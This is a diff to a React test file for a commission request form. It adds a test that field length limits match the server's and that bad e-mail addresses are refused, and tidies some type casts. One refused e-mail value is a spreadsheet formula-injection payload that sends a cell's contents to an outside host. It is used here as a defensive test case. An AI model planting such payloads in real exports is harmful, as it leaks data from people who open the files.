@@ -2,7 +2,7 @@ import { render, screen } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { MockedProvider } from '@apollo/client/testing/react';
 import { GraphQLError } from 'graphql';
-import { MESSAGES } from '@sawa/shared/domain';
+import { FIELD_LIMITS, MESSAGES } from '@sawa/shared/domain';
 import { RequestCommissionDocument } from '../gql/graphql';
 import { CommissionForm } from './CommissionForm';
 import { validateCommission, EMPTY_COMMISSION } from './commission-rules';
@@ -62,6 +62,21 @@ describe('commission request rules', () => {
 });
 
 describe('commission form', () => {
+  it('bounds every field with the limits the server applies (FIELD_LIMITS), and refuses the e-mail addresses the server refuses', () => {
+    render(
+      <MockedProvider mocks={[]}>
+        <CommissionForm />
+      </MockedProvider>,
+    );
+    for (const [key, label] of LABELS) {
+      const field = screen.getByLabelText<HTMLInputElement | HTMLTextAreaElement>(new RegExp(`^${label}`));
+      expect([key, field.maxLength]).toEqual([key, FIELD_LIMITS.commission[key]]);
+    }
+    for (const email of ['a@b.c', '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"']) {
+      expect(validateCommission({ ...FILLED, email }, null)).toEqual({ email: 'Enter a valid e-mail address.' });
+    }
+  });
+
   it('shows the errors beside the fields and sends nothing while they stand', async () => {
     const user = userEvent.setup();
     render(
@@ -85,7 +100,7 @@ describe('commission form', () => {
     await fill(user);
     await user.click(screen.getByRole('button', { name: 'Send Request' }));
     expect(await screen.findByText(MESSAGES.commission.sent)).toBeTruthy();
-    for (const [, label] of LABELS) expect((screen.getByLabelText(new RegExp(`^${label}`)) as HTMLInputElement).value).toBe('');
+    for (const [, label] of LABELS) expect(screen.getByLabelText<HTMLInputElement>(new RegExp(`^${label}`)).value).toBe('');
   });
 
   it('on failure shows the SPEC failure text and keeps what was typed', async () => {
@@ -103,6 +118,6 @@ describe('commission form', () => {
     expect(MESSAGES.commission.failed).toBe('There was an error sending your request. Please try again later.');
     expect(screen.getByText('Too many requests. Please wait a minute and try again.')).not.toBe(alert);
     expect(alert.contains(screen.getByText('Too many requests. Please wait a minute and try again.'))).toBe(false);
-    expect((screen.getByLabelText(/^Name/) as HTMLInputElement).value).toBe('Jean Bosco');
+    expect(screen.getByLabelText<HTMLInputElement>(/^Name/).value).toBe('Jean Bosco');
   });
 });
